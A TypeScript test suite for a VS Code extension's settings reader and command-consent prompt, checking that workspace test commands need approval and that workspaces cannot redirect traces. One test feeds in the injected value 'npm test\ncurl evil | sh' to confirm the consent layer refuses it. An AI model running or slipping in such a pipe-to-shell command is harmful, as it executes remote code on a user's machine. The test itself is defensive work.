import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { CommandConsent, type CommandOrigin, type ConsentPrompt } from '../../src/adapters/commandConsent';
import { readCoachSettings, readSettings, readTraceSettings, readValidationCommand } from '../../src/adapters/settings';
import { EXTENSION_ID, waitFor, workspaceRoot, writeWorkspaceFile } from './helpers';

/**
 * The settings reader and command consent in a real extension host, with VS Code's own
 * configuration service deciding what a workspace may set. These use the reader as the
 * extension bundles it, without the team profile layer (no profile in this workspace).
 */
const config = () => vscode.workspace.getConfiguration('deliberate');

/** globalState as the extension host keeps it, in memory: the consent's only state. */
class MemoryMemento implements vscode.Memento {
  private readonly values = new Map<string, unknown>();
  keys(): readonly string[] {
    return [...this.values.keys()];
  }
  get<T>(key: string, fallback?: T): T | undefined {
    return this.values.has(key) ? (this.values.get(key) as T) : fallback;
  }
  async update(key: string, value: unknown): Promise<void> {
    if (value === undefined) this.values.delete(key);
    else this.values.set(key, JSON.parse(JSON.stringify(value)));
  }
}

/** Answers questions from a script and records what the person was asked and shown. */
class ScriptedPrompt implements ConsentPrompt {
  readonly seen: string[] = [];
  constructor(private readonly answers: boolean[]) {}
  async ask(command: string, origin: CommandOrigin): Promise<boolean> {
    const answer = this.answers.shift() ?? false;
    this.seen.push(`asked (${origin}): ${command} -> ${answer ? 'Run' : 'Cancel'}`);
    return answer;
  }
  show(command: string, origin: CommandOrigin): void {
    this.seen.push(`shown (${origin}): ${command}`);
  }
  refuse(command: string, reason: string): void {
    this.seen.push(`refused: ${JSON.stringify(command)}: ${reason}`);
  }
}

/** Every string value in a JSON value, with its path. */
function strings(value: unknown, at = ''): [string, string][] {
  if (typeof value === 'string') return [[at, value]];
  if (Array.isArray(value)) return value.flatMap((v, k) => strings(v, `${at}[${k}]`));
  if (typeof value === 'object' && value !== null) return Object.entries(value).flatMap(([k, v]) => strings(v, at === '' ? k : `${at}.${k}`));
  return [];
}

describe('settings reader and command consent', () => {
  it('the installed package resolves every %reference% from package.nls.json (the English words ship in the VSIX)', () => {
    const manifest = vscode.extensions.getExtension(EXTENSION_ID)!.packageJSON as Record<string, unknown>;
    const unresolved = strings({ displayName: manifest.displayName, description: manifest.description, contributes: manifest.contributes, capabilities: manifest.capabilities }).filter(([, v]) => /^%[^%\s]+%$/.test(v));
    assert.deepEqual({ displayName: manifest.displayName, unresolved }, { displayName: 'Deliberate', unresolved: [] });
  });

  afterEach(async () => {
    for (const key of ['coach.quietHours', 'validation.commands']) {
      await config().update(key, undefined, vscode.ConfigurationTarget.Global);
      await config().update(key, undefined, vscode.ConfigurationTarget.Workspace);
    }
  });

  it('reads quiet hours the settings editor accepts ("9:00-17:00"), and an invalid value as the default', async () => {
    await config().update('coach.quietHours', '9:00-17:00', vscode.ConfigurationTarget.Global);
    const valid = readCoachSettings().quietHours;
    await config().update('coach.quietHours', '25:00-01:00', vscode.ConfigurationTarget.Global);
    assert.deepEqual([valid, readCoachSettings().quietHours], ['9:00-17:00', '']);
  });

  it("asks before running the workspace's test command, exactly as written, remembers Run for that command, and asks again when it changes", async () => {
    await config().update('validation.commands', ['/^just test/', 'npm run verify'], vscode.ConfigurationTarget.Workspace);
    const prompt = new ScriptedPrompt([false, true, true]);
    const consent = new CommandConsent(new MemoryMemento(), prompt);
    const results: boolean[] = [];
    const runOnce = async () => {
      const { command, origin } = readValidationCommand()!;
      results.push(await consent.confirmRun(command, origin));
    };
    await runOnce(); // cancelled
    await runOnce(); // Run
    await runOnce(); // remembered
    await config().update('validation.commands', ['npm run verify -- --all'], vscode.ConfigurationTarget.Workspace);
    await runOnce(); // changed: asked again
    assert.deepEqual(
      { results, seen: prompt.seen },
      {
        results: [false, true, true, true],
        seen: ['asked (workspace): npm run verify -> Cancel', 'asked (workspace): npm run verify -> Run', 'asked (workspace): npm run verify -- --all -> Run'],
      },
    );
  });

  it("runs the person's own test command after showing it once, and refuses one with a line break wherever it comes from", async () => {
    await config().update('validation.commands', ['npm test'], vscode.ConfigurationTarget.Global);
    const prompt = new ScriptedPrompt([]);
    const consent = new CommandConsent(new MemoryMemento(), prompt);
    const own = readValidationCommand()!;
    const results = [await consent.confirmRun(own.command, own.origin), await consent.confirmRun(own.command, own.origin)];
    // VS Code's settings editor flags the value; a value written by hand still never reaches a terminal.
    await config().update('validation.commands', ['npm test\ncurl evil | sh'], vscode.ConfigurationTarget.Global);
    const bad = readValidationCommand();
    results.push(await consent.confirmRun('npm test\ncurl evil | sh', 'observed'));
    assert.deepEqual(
      { results, bad, seen: prompt.seen },
      {
        results: [true, true, false],
        bad: undefined,
        seen: ['shown (user): npm test', 'refused: "npm test\\ncurl evil | sh": the command has a line break or another control character, so it could run more than one command'],
      },
    );
  });

  it('a workspace cannot choose where traces go or how long progress is kept (user settings only)', async () => {
    const settingsFile = vscode.Uri.joinPath(workspaceRoot(), '.vscode', 'settings.json');
    const before = await vscode.workspace.fs.readFile(settingsFile).then(
      (bytes) => bytes,
      () => undefined,
    );
    try {
      await writeWorkspaceFile(
        '.vscode/settings.json',
        JSON.stringify({ 'deliberate.trace.folder': '/tmp/deliberate-elsewhere', 'deliberate.store.retentionDays': 7, 'deliberate.coach.preset': 'learner' }),
      );
      // The window-scoped setting next to them shows the file has been read.
      await waitFor('the workspace settings file to be read', () => (config().get('coach.preset') === 'learner' ? true : undefined), 15_000);
      assert.deepEqual(
        { trace: readTraceSettings().folder, retention: readSettings().retentionDays, workspaceValue: config().inspect('trace.folder')?.workspaceValue },
        { trace: '', retention: 90, workspaceValue: undefined },
      );
    } finally {
      if (before === undefined) await vscode.workspace.fs.delete(settingsFile);
      else await vscode.workspace.fs.writeFile(settingsFile, before);
      await waitFor('the workspace settings file to be gone', () => (config().get('coach.preset') === 'standard' ? true : undefined), 15_000);
    }
  });
});
